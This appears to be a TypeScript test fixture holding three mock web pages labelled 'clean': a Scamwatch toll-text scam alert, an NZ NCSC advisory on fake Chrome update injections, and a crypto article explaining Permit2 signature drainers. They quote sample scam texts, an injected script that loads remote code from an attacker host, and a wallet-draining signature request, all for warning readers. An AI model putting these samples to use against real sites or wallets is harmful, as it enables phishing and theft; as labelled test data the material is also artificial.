import type { Entry } from '../entry.js';
import { shell, baseCss, mark, esc, acknowledgement } from '../parts/xd-kit.js';

export const entries: Entry[] = [
{
  id: 'xd-clean-scamwatch-toll-text-alert',
  label: 'clean',
  kind: 'regulator-scam-alert',
  url: 'https://www.scamwatch.gov.au/about-us/news-and-alerts/toll-road-text-scams-2025',
  body: shell(
    'Scammers pretending to be toll road companies | Scamwatch',
    `<header class="top" style="background:#fff;border-bottom:4px solid #00698f">${mark.coatOfArms(40)}<div><b style="font-size:20px;color:#00698f">Scamwatch</b><br><span style="font-size:12px">National Anti-Scam Centre</span></div></header>
<main style="max-width:860px">
 <h1>Scammers pretending to be toll road companies</h1>
 <p>The National Anti-Scam Centre has received more than 18,000 reports of text messages claiming you have an unpaid toll. The messages impersonate Linkt, E-Toll, Transport for NSW and state road authorities.</p>
 <h2>What the scam looks like</h2>
 <blockquote style="background:#f3f7f9;border-left:4px solid #00698f;padding:12px">Linkt: You have an unpaid toll of $12.71. To avoid a late fee of $97.60 please pay now at linkt-au.tollpay-notice.xyz/pay</blockquote>
 <blockquote style="background:#f3f7f9;border-left:4px solid #00698f;padding:12px">Service NSW: Your penalty notice PN-4410297 is overdue. Pay $34.20 today to avoid licence suspension: service-nsw.gov-au-fines.vip</blockquote>
 <p>The links go to fake payment pages that steal your card details and one-time passcodes.</p>
 <h2>Protect yourself</h2>
 <ul><li>Don't click links in unexpected texts about tolls or fines.</li><li>Log in to your toll account using the official app or by typing the website address yourself.</li><li>If you've given your card details, contact your bank straight away.</li></ul>
 <p><a class="btn" style="background:#00698f" href="https://www.scamwatch.gov.au/report-a-scam">Report a scam</a></p>
</main>
<footer>${acknowledgement('The ACCC')}</footer>`,
    { css: baseCss('#fff', '#222', '#00698f') + 'main{max-width:860px}' },
  ),
},
{
  id: 'xd-clean-certnz-fake-browser-update',
  label: 'clean',
  kind: 'security-advisory',
  url: 'https://www.ncsc.govt.nz/alerts/fake-browser-update-campaign-compromised-nz-sites/',
  body: shell(
    'Fake browser update campaign on compromised NZ websites | NCSC',
    `<header class="top" style="background:#1d2b4c;color:#fff"><b>National Cyber Security Centre</b><span style="margin-left:10px;font-size:13px">Te Pokapū Haumaru Ipurangi ā-Motu</span></header>
<main style="max-width:860px">
 <h1>Fake browser update campaign on compromised NZ websites</h1>
 <p>We've seen legitimate New Zealand and Australian business websites compromised with a script that displays a full-page “Your version of Chrome is out of date” message. Clicking <b>Update Chrome</b> downloads a ZIP file containing a JavaScript file (for example <code>Chrome.Update.js</code>). Running it gives the attacker remote access.</p>
 <h2>What the injected code looks like</h2>
 <pre style="background:#f4f4f4;padding:12px;font-size:13px;overflow:auto">${esc(`<script>;(function(){var s=document.createElement('script');s.async=1;
s.src='https://cdn-analytic.stats-tracker[.]top/t.js?v='+Date.now()%1e4;
document.head.appendChild(s)})();</script>`)}</pre>
 <p>Browsers update themselves automatically. Chrome, Edge and Firefox will never ask you to download an update from a website you're visiting.</p>
 <h2>For website owners</h2>
 <ul><li>Update WordPress core, themes and plugins; remove unused plugins.</li><li>Check for unexpected script tags in theme files and the database (<code>wp_options</code>, <code>wp_posts</code>).</li><li>Reset administrator passwords and enable two-factor authentication.</li></ul>
 <p><a href="https://www.ncsc.govt.nz/report">Report an incident</a></p>
</main>`,
    { lang: 'en-NZ', css: baseCss('#1d2b4c') + 'main{max-width:860px}' },
  ),
},
{
  id: 'xd-clean-crypto-news-permit-drainers-explainer',
  label: 'clean',
  kind: 'crypto-news-article',
  url: 'https://www.coindesk-au.news/learn/how-permit2-signature-drainers-empty-wallets',
  body: shell(
    'How Permit2 signature drainers empty wallets without a transaction | Learn',
    `<header style="padding:14px 24px;border-bottom:1px solid #eee;font:700 20px Arial">Crypto Daily AU <span style="font-weight:400;font-size:14px;color:#888">Learn</span></header>
<article style="max-width:760px;margin:24px auto;font:17px/1.6 Georgia,serif;padding:0 16px">
 <h1 style="font-family:Arial">How Permit2 signature drainers empty wallets without a transaction</h1>
 <p style="font:13px Arial;color:#888">By Priya Raman · Melbourne</p>
 <p>Fake airdrop sites increasingly avoid asking for an on-chain <code>approve()</code>. Instead they ask you to <i>sign</i> an off-chain message — an EIP-712 <code>PermitBatch</code> for Uniswap's Permit2 contract. Once signed, the attacker submits it and pulls your tokens.</p>
 <p>Here is the shape of the typed data a drainer requests. Note the <code>spender</code> and the maximum <code>amount</code>:</p>
 <pre style="background:#f6f8fa;padding:12px;font-size:13px;overflow:auto">${esc(`{
  "primaryType": "PermitBatch",
  "domain": { "name": "Permit2", "chainId": 1, "verifyingContract": "0x000000000022D473030F116dDEE9F6B43aC78BA3" },
  "message": {
    "details": [{ "token": "0xdAC17F958D2ee523a2206206994597C13D831ec7", "amount": "1461501637330902918203684832716283019655932542975", "expiration": 1767225600, "nonce": 0 }],
    "spender": "0x7a16fF8270133F063aAb6C9977183D9e72835428",
    "sigDeadline": 1767225600
  }
}`)}</pre>
 <p>Similarly, NFT drainers call <code>setApprovalForAll(operator, true)</code> — function selector <code>0xa22cb465</code> — disguised as a “revoke” or “mint” button.</p>
 <h2 style="font-family:Arial">How to protect yourself</h2>
 <ul><li>Read what your wallet says you're signing. “Permit” means spending rights.</li><li>Never enter your seed phrase on a website. No exchange, including CoinSpot or Swyftx, will ask for it.</li><li>Review and revoke approvals with a reputable tool you navigate to yourself.</li></ul>
</article>`,
  ),
},
];
